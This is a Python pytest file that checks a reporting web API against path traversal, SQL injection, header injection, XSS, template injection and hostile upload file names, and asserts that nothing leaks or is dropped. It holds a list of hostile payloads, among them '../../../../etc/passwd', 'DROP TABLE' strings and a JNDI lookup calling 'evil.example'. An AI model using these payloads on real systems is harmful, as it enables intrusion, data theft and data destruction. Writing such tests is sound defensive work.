"""Path traversal, SQL injection and header injection on every parameter that names a file,
sorts or filters: each payload gets a 4xx problem or a harmless 200, never a 5xx, never a file
outside its folder, never a header of its own; the database is intact afterwards."""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import quote

import pytest

from api.reports import content_disposition
from core.settings import get_settings
from models.dossiers.ingest import ingest_records
from piccolo_app import TABLES
from reports.runs import RunRequest, request_run
from tests.dossier_data import build_catalogue, dossier
from tests.sample_files import PNG, csv_bytes, dossier_rows
from tests.waiting import background_idle

pytestmark = pytest.mark.anyio

PAYLOADS = [
    "../../../../etc/passwd",
    "..%2F..%2F..%2Fsecret_key",
    "/etc/passwd",
    "..\\..\\..\\Windows\\win.ini",
    "....//....//data/secret_key",
    "' OR '1'='1",
    "1' OR 1=1 --",
    "'; DROP TABLE unit; --",
    '" OR ""="',
    "code; DROP TABLE task",
    "-id,(SELECT password_hash FROM account)",
    "code) UNION SELECT digest FROM credential --",
    "%",
    "_",
    "\\",
    "\x00",
    "\r\nSet-Cookie: injected=1",
    "\r\nX-Injected: 1",
    "<script>alert(1)</script>",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.example/a}",
    "ệ" * 60,
    "docx\x00.pdf",
]


def filtered_lists(world, run_id: int) -> list[tuple[str, dict, list[str]]]:
    """(path, fixed query, parameters that sort, filter or name a file)."""
    period = {"from": "2024-01-01", "to": "2024-12-31"}
    return [
        ("/api/units", {}, ["q", "sort", "level", "kind"]),
        ("/api/users", {}, ["q", "sort", "role"]),
        ("/api/plans", {}, ["sort", "status"]),
        (f"/api/plans/{world.plan_id}/tasks", {}, ["q", "sort", "area", "status"]),
        (f"/api/plans/{world.plan_id}/export", {}, ["format"]),
        ("/api/procedures", {}, ["q", "sort", "field", "level", "online_level"]),
        ("/api/indices", {}, ["sort", "kind"]),
        ("/api/dossiers/stats", period, ["field", "level", "group_by"]),
        ("/api/dossiers/late-without-apology", period, ["field", "level"]),
        ("/api/reports", {}, ["kind", "period", "state"]),
        (f"/api/reports/{run_id}/file", {}, ["format"]),
        ("/api/audit", {}, ["path"]),
    ]


def path_parameters(world) -> list[str]:
    """Routes whose path names a record by text: {} is the payload."""
    return [
        "/api/dossiers/{}",
        "/api/indices/{}/2024",
        "/api/reports/drafts/{}",
        "/static/{}",
        "/api/evidence/{}",
        "/api/plans/{}/export",
    ]


async def _counts(db) -> dict[str, int]:
    return {table._meta.tablename: await table.count() for table in TABLES}


def _files(root: Path) -> set[Path]:
    return {path for path in root.rglob("*") if path.is_file()}


def assert_harmless(response, what) -> None:
    assert response.status_code < 500, (what, response.status_code, response.text[:300])
    assert "injected" not in {name.lower() for name in response.headers}, what
    assert "x-injected" not in response.headers, what
    assert not any("injected" in value for value in response.headers.get_list("set-cookie")), what
    if response.status_code >= 400:
        assert response.headers["content-type"].split(";")[0] in ("application/problem+json", "text/html"), (
            what
        )
    assert "root:x:0:0" not in response.text and "test-secret-key" not in response.text, what


@pytest.fixture
async def records(world):
    await build_catalogue(world)
    await ingest_records(world.admin, [{k: v for k, v in dossier("HS-1").items() if v} | {"cashless": True}])
    return (await request_run(world.staff, RunRequest("2024-H1")))["id"]


async def test_sort_filter_and_file_parameters_take_any_payload(client, db, world, headers, records):
    before = await _counts(db)
    files_before = _files(get_settings().data_dir)
    tried = 0
    for path, fixed, names in filtered_lists(world, records):
        for name in names:
            for payload in PAYLOADS:
                response = await client.get(path, params={**fixed, name: payload}, headers=headers["admin"])
                assert_harmless(response, (path, name, payload))
                tried += 1
    for template in path_parameters(world):
        for payload in PAYLOADS:
            url = template.format(quote(payload, safe=""))
            response = await client.get(url, headers=headers["admin"])
            assert_harmless(response, (template, payload))
            assert response.status_code in (200, 400, 404, 422), (url, response.status_code)
            tried += 1
    assert tried > 800
    assert await _counts(db) == before  # nothing dropped, nothing written
    assert _files(get_settings().data_dir) == files_before


async def test_a_sort_key_is_one_of_the_allowed_ones_or_a_422(client, world, headers):
    response = await client.get(
        "/api/units", params={"sort": "name; DROP TABLE unit"}, headers=headers["viewer"]
    )
    assert response.status_code == 422 and response.json()["errors"][0]["field"] == "sort"
    ok = await client.get("/api/units", params={"sort": "-name,code"}, headers=headers["viewer"])
    assert ok.status_code == 200


async def test_like_wildcards_in_a_search_match_themselves(client, world, headers):
    """ "%" and "_" in q= are text, not LIKE wildcards: they find nothing here."""
    for payload in ("%", "_", "%%", "S_P"):
        response = await client.get("/api/units", params={"q": payload}, headers=headers["viewer"])
        assert response.status_code == 200
        assert response.json()["total"] == 0, payload


async def test_static_files_stay_in_their_folder(client):
    for url in (
        "/static/../../data/secret_key",
        "/static/..%2f..%2fcore%2fsettings.py",
        "/static/%2e%2e/%2e%2e/pyproject.toml",
        "/static/....//....//pyproject.toml",
        "/static//etc/passwd",
    ):
        response = await client.get(url)
        assert response.status_code in (400, 404), (url, response.status_code)
        assert "[project]" not in response.text and "root:x" not in response.text


async def test_uploaded_file_names_never_leave_their_folder_or_a_header(client, db, world, headers, records):
    data_dir = get_settings().data_dir
    hostile_names = [
        "../../../../tmp/cchc-pwn.png",
        "..\\..\\..\\cchc-pwn.png",
        "/etc/cron.d/cchc-pwn.png",
        "anh\r\nSet-Cookie: injected=1.png",
        'anh"; filename="evil.exe.png',
        "ảnh\u202egnp.exe",
    ]
    for name in hostile_names:
        uploaded = await client.post(
            f"/api/tasks/{world.task_a}/evidence", files={"file": (name, PNG)}, headers=headers["head_a"]
        )
        assert uploaded.status_code == 201, uploaded.text
        stored = uploaded.json()
        assert "/" not in stored["filename"] and "\\" not in stored["filename"], stored
        assert not any(ord(ch) < 32 or 0x202A <= ord(ch) <= 0x202E for ch in stored["filename"]), stored
        download = await client.get(f"/api/evidence/{stored['id']}", headers=headers["viewer"])
        assert download.status_code == 200 and download.content == PNG
        disposition = download.headers["content-disposition"]
        assert "\r" not in disposition and "\n" not in disposition
        assert_harmless(download, name)
    job = await client.post(
        "/api/dossiers/imports",
        files={"file": ("../../../../tmp/cchc-pwn.csv", csv_bytes(dossier_rows()))},
        headers=headers["staff"],
    )
    assert job.status_code == 202 and job.json()["filename"] == "cchc-pwn.csv"
    await background_idle()  # let the job finish before the test's event loop closes
    assert not Path("/tmp/cchc-pwn.png").exists() and not Path("/tmp/cchc-pwn.csv").exists()
    assert not Path("/etc/cron.d/cchc-pwn.png").exists()
    outside = [
        p for p in _files(data_dir) if p.parts[len(data_dir.parts)] not in ("evidence", "imports", "reports")
    ]
    assert all(
        p.name in ("secret_key",) or p.suffix in (".sqlite", ".sqlite-wal", ".sqlite-shm") for p in outside
    ), outside


@pytest.mark.parametrize(
    "name",
    [
        "Báo cáo CCHC 6 tháng đầu năm 2023.docx",
        'Báo cáo "Sở Nội vụ".docx',
        "Báo cáo\r\nSet-Cookie: injected=1.docx",
        "Báo cáo; filename=evil.exe.docx",
        "Báo cáo \\ Đặc biệt % 100%.docx",
        "Đ" * 300 + ".docx",
    ],
)
def test_report_content_disposition_is_safe_for_any_vietnamese_name(name):
    header = content_disposition(name)
    assert header.isascii() and header.isprintable(), header  # no CR/LF, no raw Unicode
    fallback = header.split("filename*=")[0]
    assert fallback.count('"') == 2, header  # the ASCII name quoted once, no quote inside it
    assert "\\" not in fallback
    assert header.startswith('attachment; filename="')
    encoded = header.split("filename*=UTF-8''")[1]
    assert all(ch.isalnum() or ch in "%-._~" for ch in encoded), encoded  # RFC 5987 attr-chars only
    from urllib.parse import unquote

    assert unquote(encoded) == name


async def test_problem_bodies_echo_no_payload_as_markup(client, world, headers):
    """A payload in an error is data in JSON, not markup in a page."""
    response = await client.get(
        "/api/dossiers/" + quote("<script>alert(1)</script>", safe=""), headers=headers["viewer"]
    )
    assert response.status_code == 404
    assert response.headers["content-type"].startswith("application/problem+json")
    json.loads(response.text)
